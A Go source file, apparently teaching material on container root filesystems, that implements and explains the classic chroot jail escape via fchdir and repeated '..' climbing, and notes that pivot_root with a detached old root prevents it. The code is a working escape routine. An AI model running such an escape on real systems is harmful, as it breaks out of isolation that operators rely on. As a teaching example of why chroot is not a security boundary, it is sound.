package lessons

import (
	"errors"
	"fmt"
	"io"

	"golang.org/x/sys/unix"
)

// The chroot breakout, for the root filesystem lesson. chroot(2) changes
// only where path resolution starts; it does not move the working
// directory, and ".." stops only at the process's root. So a process that
// may call chroot (CAP_SYS_CHROOT) keeps a handle on its current root,
// chroots into a subdirectory (the handle is now above the new root),
// fchdir(2)s back to the handle and climbs with ".." past the old root to
// the top of the mount tree. chroot(2) says so in NOTES: it "is not intended
// to be used for any kind of security purpose". pivot_root(2) with the old
// root detached leaves nothing above the new root to climb to: ".." at the
// root of the mount namespace's root mount is the root itself.

// escapeClimbLimit bounds the climb; no real tree is this deep.
const escapeClimbLimit = 256

// EscapeChroot tries the classic way out of a chroot jail and reports
// whether it got out. It writes one line per system call to w, as strace
// would, so a learner can follow it. Whatever happens, the process ends
// with its root at the top it reached: the host's "/" if it escaped, the
// root it was given if not.
func EscapeChroot(w io.Writer) (bool, error) {
	if err := unix.Chdir("/"); err != nil {
		return false, fmt.Errorf("chdir /: %w", err)
	}
	fd, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, fmt.Errorf("open /: %w", err)
	}
	defer unix.Close(fd)
	var given unix.Stat_t
	if err := unix.Fstat(fd, &given); err != nil {
		return false, fmt.Errorf("fstat /: %w", err)
	}
	fmt.Fprintf(w, "%-18s= %-4d the root we were given: %s\n", `open(".")`, fd, devIno(given))

	sub, err := escapeSubdir()
	if err != nil {
		return false, err
	}
	if err := unix.Chroot(sub); err != nil {
		return false, fmt.Errorf("chroot %s: %w", sub, err)
	}
	fmt.Fprintf(w, "%-18s= 0    the root moves down into /%s\n", fmt.Sprintf("chroot(%q)", sub), sub)

	if err := unix.Fchdir(fd); err != nil {
		return false, fmt.Errorf("fchdir to the old root: %w", err)
	}
	fmt.Fprintf(w, "%-18s= 0    the working directory is above the root\n", fmt.Sprintf("fchdir(%d)", fd))

	top, climbs, err := climb()
	if err != nil {
		return false, err
	}
	fmt.Fprintf(w, "%-18s       up until \"..\" is \".\": %s\n", fmt.Sprintf(`chdir("..") x %d`, climbs), devIno(top))

	if err := unix.Chroot("."); err != nil {
		return false, fmt.Errorf("chroot at the top: %w", err)
	}
	if err := unix.Chdir("/"); err != nil {
		return false, fmt.Errorf("chdir / at the top: %w", err)
	}
	fmt.Fprintf(w, "%-18s= 0    the root is the top we reached\n", `chroot(".")`)

	escaped := top.Dev != given.Dev || top.Ino != given.Ino
	if escaped {
		fmt.Fprintln(w, "OUT: the top is not the root we were given")
	} else {
		fmt.Fprintln(w, "STILL IN: the top is the root we were given")
	}
	return escaped, nil
}

// escapeSubdir is a directory below the root to chroot into: any will do,
// and using one that exists writes nothing to the root filesystem.
func escapeSubdir() (string, error) {
	for _, d := range []string{"bin", "tmp", "etc", "dev", "proc"} {
		var st unix.Stat_t
		if unix.Stat(d, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR {
			return d, nil
		}
	}
	return "", errors.New("no directory below / to chroot into")
}

// climb walks up with chdir("..") until ".." is the directory itself: the
// top of the tree as path resolution sees it from here.
func climb() (unix.Stat_t, int, error) {
	for n := 0; n < escapeClimbLimit; n++ {
		var here, up unix.Stat_t
		if err := unix.Stat(".", &here); err != nil {
			return here, n, fmt.Errorf("stat .: %w", err)
		}
		if err := unix.Stat("..", &up); err != nil {
			return here, n, fmt.Errorf("stat ..: %w", err)
		}
		if here.Dev == up.Dev && here.Ino == up.Ino {
			return here, n, nil
		}
		if err := unix.Chdir(".."); err != nil {
			return here, n, fmt.Errorf("chdir ..: %w", err)
		}
	}
	return unix.Stat_t{}, escapeClimbLimit, fmt.Errorf("still climbing after %d steps", escapeClimbLimit)
}

func devIno(st unix.Stat_t) string {
	return fmt.Sprintf("dev %d:%d inode %d", unix.Major(st.Dev), unix.Minor(st.Dev), st.Ino)
}
